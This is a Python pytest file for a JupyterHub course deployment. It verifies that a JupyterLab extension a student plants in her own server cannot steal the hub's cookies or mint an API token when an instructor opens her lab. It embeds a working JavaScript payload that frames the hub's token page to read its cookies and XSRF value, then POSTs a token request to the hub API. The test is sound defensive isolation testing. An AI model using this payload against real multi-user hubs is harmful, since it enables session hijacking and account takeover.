"""A student plants a JupyterLab extension in her own server and waits for her instructor to open
her lab: the extension's script runs in the instructor's browser, as JupyterLab loads it. It then
tries what worked when every server shared the hub's origin: read the hub's cookies (directly,
and through a frame of the hub's own page), and mint a token for the instructor through the hub's
API. Each user's server is on an origin of its own (``<user>.jaxcourse.localhost``): the script runs, and
gets nothing of the hub's. A real browser (Playwright driving Debian's chromium)."""

from __future__ import annotations

import json
import re
import time

import pytest

from ...helpers.hub import SHOTS

pytestmark = [pytest.mark.docker, pytest.mark.slow]
PLANTED = "jaxcourse-planted"
# Run on load, as any lab extension's code is; its findings are written into her work folder
# through her own server's API, as whoever has her lab open.
SCRIPT = """
(async () => {
  const hub = "HUB", found = {origin: location.origin, cookies: document.cookie};
  let xsrf = "";
  try {
    const frame = document.createElement("iframe");
    frame.src = hub + "/hub/token";
    document.body.appendChild(frame);
    await new Promise((done) => { frame.onload = done; setTimeout(done, 10000); });
    const jar = frame.contentDocument.cookie;
    found.frame = jar;
    xsrf = (jar.match(/(?:^|; )_xsrf=([^;]*)/) || [])[1] || "";
  } catch (error) { found.frame = "refused: " + error.name; }
  try {
    const minted = await fetch(hub + "/hub/api/users/teach/tokens", {method: "POST", credentials: "include",
      headers: {"Content-Type": "application/json", "X-XSRFToken": xsrf}, body: JSON.stringify({note: "planted"})});
    found.mint = minted.status;
  } catch (error) { found.mint = "refused: " + error.name; }
  const here = (document.cookie.match(/(?:^|; )_xsrf=([^;]*)/) || [])[1] || "";
  await fetch(location.origin + "/user/alice/api/contents/planted-ran.json", {method: "PUT",
    headers: {"Content-Type": "application/json", "X-XSRFToken": here},
    body: JSON.stringify({type: "file", format: "text", content: JSON.stringify(found)})});
})();
"""


def _plant(container, hub_url: str) -> None:
    """In her server, as her terminal would: an extension in her own data folder."""
    folder = f"/home/jovyan/.local/share/jupyter/labextensions/{PLANTED}"
    package = {
        "name": PLANTED,
        "version": "0.0.1",
        "jupyterlab": {"_build": {"load": "static/remoteEntry.planted.js", "extension": "./extension"}},
    }
    script = SCRIPT.replace("HUB", hub_url)
    code = (
        f"import json, os; os.makedirs({folder + '/static'!r}, exist_ok=True); "
        f"open({folder + '/package.json'!r}, 'w').write({json.dumps(package)!r}); "
        f"open({folder + '/static/remoteEntry.planted.js'!r}, 'w').write({script!r})"
    )
    done = container.exec_run(["python", "-c", code], user="1000:100")
    assert done.exit_code == 0, done.output.decode()


def test_an_extension_she_planted_gets_nothing_of_the_instructors_who_opens_her_lab(hub, client, page):
    alice, teach = hub["users"]["alice"].ready(), hub["users"]["teach"].ready()
    _plant(client.containers.get(f"{hub['name']}-lab-alice"), teach.hub)
    marker = hub["classdir"] / "home" / "alice" / "planted-ran.json"
    marker.unlink(missing_ok=True)

    page.goto(f"{teach.hub}/hub/login")
    page.fill("input[name=username]", teach.name)
    page.fill("input[name=password]", teach.password)
    page.click("input[type=submit], button[type=submit]")
    page.wait_for_url(re.compile(r"/user/teach/"), timeout=240_000)
    page.goto(f"{teach.hub}/user/{alice.name}/lab")  # the hub sends her to alice's own origin
    authorize = page.get_by_role("button", name=re.compile("Authorize", re.I))
    if authorize.count():  # JupyterHub asks before an admin reaches another user's server
        authorize.first.click()
    page.wait_for_url(re.compile(r"^http://alice\.jaxcourse\.localhost:\d+/user/alice/lab"), timeout=240_000)
    deadline = time.monotonic() + 120
    while not marker.is_file() and time.monotonic() < deadline:
        time.sleep(1)
    page.screenshot(path=str(SHOTS / "planted-extension.png"))
    assert marker.is_file(), "the planted script never ran in the instructor's browser"
    found = json.loads(marker.read_text())
    assert found["origin"].startswith("http://alice.jaxcourse.localhost:"), found
    assert found["frame"].startswith("refused"), found  # the hub's page is another origin's
    assert "jupyterhub" not in found["cookies"], found  # none of the hub's cookies are hers to read
    assert found["mint"] not in (200, 201), found
    tokens = teach.api("GET", "/hub/api/users/teach/tokens").json()["api_tokens"]  # her logins' own are there
    assert not [t for t in tokens if t.get("note") == "planted"], tokens
